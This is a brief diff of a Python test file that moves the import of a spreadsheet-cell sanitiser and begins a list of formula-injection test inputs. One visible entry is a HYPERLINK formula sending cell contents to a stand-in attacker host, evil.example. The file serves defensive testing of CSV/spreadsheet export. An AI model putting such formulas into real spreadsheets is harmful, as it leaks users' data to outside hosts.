@@ -16,7 +16,7 @@ import pytest
 
 from trainer import cli
 from trainer.adapters.store import SessionStore
-from trainer.commands.history import spreadsheet_safe_cell
+from trainer.untrusted_text import spreadsheet_safe_cell
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
